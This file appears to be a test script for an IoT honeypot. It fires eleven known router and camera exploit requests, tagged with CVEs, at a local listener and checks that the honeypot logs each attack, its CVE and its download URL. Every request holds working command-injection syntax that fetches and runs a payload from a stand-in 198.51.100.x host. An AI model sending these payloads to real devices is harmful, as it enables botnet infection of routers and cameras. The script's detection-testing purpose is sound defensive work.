#!/bin/sh
# The HTTP side of the honeypot: curl sends the documented IoT exploit
# requests (iot-threats.md section 3) and each is recorded with its CVE and
# the download URL pulled out of the injected command; nmap -sV names the
# services after the device profiles.
. "$(dirname "$0")/../lib.sh"
. "$ROOT/tests/honeypot_helpers.sh"

# Telnet as a home router, HTTP as an IP camera (profiles per port are
# set with port_profiles; here the listener profile comes from profile=).
hp_start web "profile = ipcam"
U=http://127.0.0.1:$HPORT
C="curl -g -s -o /dev/null -m 10"

# name | CVE | URL expected in the event (one line each, curl below in order)
cat >"$T/expect.txt" <<EOF2
hg532|CVE-2017-17215|http://198.51.100.10/bins/mips
realtek|CVE-2014-8361|http://198.51.100.20/rt
gpon|CVE-2018-10562|http://198.51.100.11/gpon.sh
hnap|CVE-2015-2051|http://198.51.100.12/d.sh
jaws|CVE-2016-20016|http://198.51.100.13/jaws
netgear-setup|EDB-25978|http://198.51.100.14:8088/Mozi.m
netgear-cgibin|CVE-2016-6277|http://198.51.100.15/n.sh
hikvision|CVE-2021-36260|http://198.51.100.16/h
thinkphp|CVE-2018-20062|http://198.51.100.17/t.sh
tbk|CVE-2024-3721|http://198.51.100.18/tbk.sh
tplink|CVE-2023-1389|http://198.51.100.19/tp.sh
EOF2
$C -X POST "$U/ctrlt/DeviceUpgrade_1" -H 'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway"' \
	--data '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget http://198.51.100.10/bins/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m huawei)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>'
$C -X POST "$U/picsdesc.xml" -H 'SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' \
	--data '<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /var; wget http://198.51.100.20/rt -O r`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>'
$C -X POST "$U/GponForm/diag_Form?images/" \
	--data 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.11/gpon.sh+-O+/tmp/g`;sh+/tmp/g&ipv=0'
$C -X POST "$U/HNAP1/" -H 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://198.51.100.12/d.sh`"'
$C "$U/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.13/jaws;sh+/tmp/jaws"
$C "$U/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.14:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"
$C "$U/cgi-bin/;cd\${IFS}/tmp;wget\${IFS}http://198.51.100.15/n.sh"
$C -X PUT "$U/SDK/webLanguage" --data '<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://198.51.100.16/h -O /tmp/h)</language>'
$C "$U/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://198.51.100.17/t.sh%20-O%20/tmp/t.sh"
$C -b uid=1 "$U/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20/tmp;wget%20http://198.51.100.18/tbk.sh"
$C -X POST "$U/cgi-bin/luci/;stok=/locale?form=country" --data 'operation=write&country=$(wget http://198.51.100.19/tp.sh -O-|sh)'
# Not exploits: the index page, a missing page, a malformed request.
curl -s -i -m 10 "$U/" >"$T/index.out"
curl -s -i -m 10 "$U/nothing-here" >"$T/404.out"
printf '\001\002 garbage\r\n\r\n' | nc -q 2 127.0.0.1 "$HPORT" >"$T/bad.out"
check_grep "index page with the profile's Server header" "^Server: uc-httpd 1.0.0" "$T/index.out"
check_grep "index page status" "^HTTP/1.0 200 OK" "$T/index.out"
check_grep "missing page: 404" "^HTTP/1.0 404" "$T/404.out"
check_grep "malformed request: 400" "^HTTP/1.0 400" "$T/bad.out"

# nmap -sV: what does it call our services? (one run, both ports)
if command -v nmap >/dev/null 2>&1; then
	nmap -sV -Pn -p "$TPORT,$HPORT" 127.0.0.1 >"$T/nmap.out" 2>&1
	grep '^[0-9]*/tcp' "$T/nmap.out" | sed 's/^/# nmap: /'
	check_grep "nmap: telnet listener is a telnetd" "^$TPORT/tcp *open *telnet" "$T/nmap.out"
	check_grep "nmap: http listener is the camera's uc-httpd" "^$HPORT/tcp *open *http *uc-httpd" "$T/nmap.out"
	check_eq "nmap: no mention of a honeypot" 0 "$(grep -ci honeypot "$T/nmap.out")"
fi
hp_stop
check_eq "SIGTERM: exit status 0" 0 "$HP_EXIT"

hp_events web --kind exploit >"$T/x.json"
check_eq "one exploit event per exploit request" "$(wc -l <"$T/expect.txt" | tr -d ' ')" "$(wc -l <"$T/x.json" | tr -d ' ')"
while IFS='|' read -r name cve url; do
	check_grep "$name: $cve with URL $url" "\"url\":\"$url\",\"cve\":\"$cve\"" "$T/x.json"
	n=$(hp_events web --kind download | grep -c "\"url\":\"$url\"")
	check_eq "$name: one download event for $url" 1 "$n"
done <"$T/expect.txt"
check_grep "Mozi payload name gives family mozi" '"family":"mozi".*"cve":"EDB-25978"' "$T/x.json"
check_grep "injected command kept (HG532)" '"input":"/bin/busybox wget http://198.51.100.10/bins/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m huawei"' "$T/x.json"
check_eq "plain requests are not exploits" 0 "$(grep -c 'nothing-here' "$T/x.json")"
